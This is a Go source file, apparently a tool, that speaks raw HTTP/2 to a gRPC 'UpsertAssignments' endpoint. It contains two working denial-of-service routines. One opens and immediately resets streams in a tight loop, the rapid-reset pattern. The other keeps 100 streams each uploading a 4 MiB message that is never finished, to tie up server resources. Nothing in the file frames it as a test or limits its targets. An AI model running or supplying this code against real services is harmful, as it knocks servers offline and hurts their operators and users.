package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// greeting begins an HTTP/2 connection: the preface and empty settings.
const greeting = http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

const upsertMethod = "/workplan.v1.AssignmentService/UpsertAssignments"

// headers encodes the headers of a gRPC call.
func headers(encoder *hpack.Encoder, block *bytes.Buffer, key string) []byte {
	block.Reset()
	fields := [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", upsertMethod}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}
	if key != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + key})
	}
	for _, f := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a buffer never fails
	}
	return block.Bytes()
}

// resets opens streams and resets them at once, as fast as the connection takes them.
func resets(ctx context.Context, c net.Conn) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	if _, err := io.WriteString(c, greeting); err != nil {
		return
	}
	var out, block bytes.Buffer
	framer, encoder := http2.NewFramer(&out, nil), hpack.NewEncoder(&block)
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
		_ = framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: headers(encoder, &block, ""), EndHeaders: true,
		})
		_ = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		if out.Len() > 16<<10 {
			if _, err := c.Write(out.Bytes()); err != nil {
				return
			}
			out.Reset()
		}
	}
}

// message is an unfinished message of 4 MiB: its last byte is missing.
var message = append(binary.BigEndian.AppendUint32([]byte{0}, 4<<20), make([]byte, 4<<20-1)...)

// upload is a connection whose streams send message as far as the server lets them.
type upload struct {
	mu         sync.Mutex
	framer     *http2.Framer
	conn       int // the windows: how many bytes may be sent
	initial    int
	streams    map[uint32]int // by id
	nextStream uint32
}

// unfinished keeps 100 calls with an unfinished message open, until the connection ends.
func unfinished(ctx context.Context, c net.Conn, key string) {
	if _, err := io.WriteString(c, greeting); err != nil {
		return
	}
	u := &upload{framer: http2.NewFramer(c, c), conn: 65535, initial: 65535, streams: map[uint32]int{}, nextStream: 1}
	go u.send(ctx, key)
	for {
		frame, err := u.framer.ReadFrame()
		if err != nil {
			return
		}
		u.mu.Lock()
		u.receive(frame)
		u.mu.Unlock()
	}
}

// receive keeps the windows, acknowledges, and forgets streams that the server ends.
func (u *upload) receive(frame http2.Frame) {
	switch f := frame.(type) {
	case *http2.SettingsFrame:
		if f.IsAck() {
			return
		}
		if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
			for id := range u.streams {
				u.streams[id] += int(size) - u.initial
			}
			u.initial = int(size)
		}
		_ = u.framer.WriteSettingsAck() // a broken connection fails the next read
	case *http2.PingFrame:
		if !f.IsAck() {
			_ = u.framer.WritePing(true, f.Data)
		}
	case *http2.WindowUpdateFrame:
		if f.StreamID == 0 {
			u.conn += int(f.Increment)
		} else if _, ok := u.streams[f.StreamID]; ok {
			u.streams[f.StreamID] += int(f.Increment)
		}
	case *http2.RSTStreamFrame:
		delete(u.streams, f.StreamID)
	case *http2.HeadersFrame:
		if f.StreamEnded() {
			delete(u.streams, f.StreamID)
		}
	}
}

func (u *upload) send(ctx context.Context, key string) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	sent := map[uint32]int{}
	for ctx.Err() == nil {
		u.mu.Lock()
		for len(u.streams) < 100 {
			id := u.nextStream
			u.nextStream += 2
			u.streams[id] = u.initial
			if u.framer.WriteHeaders(http2.HeadersFrameParam{
				StreamID: id, BlockFragment: headers(encoder, &block, key), EndHeaders: true,
			}) != nil {
				u.mu.Unlock()
				return
			}
		}
		for id, window := range u.streams {
			n := min(window, u.conn, 16<<10, len(message)-sent[id])
			if n <= 0 {
				continue
			}
			if u.framer.WriteData(id, false, message[sent[id]:sent[id]+n]) != nil {
				u.mu.Unlock()
				return
			}
			sent[id] += n
			u.conn, u.streams[id] = u.conn-n, window-n
		}
		u.mu.Unlock()
		time.Sleep(5 * time.Millisecond)
	}
}
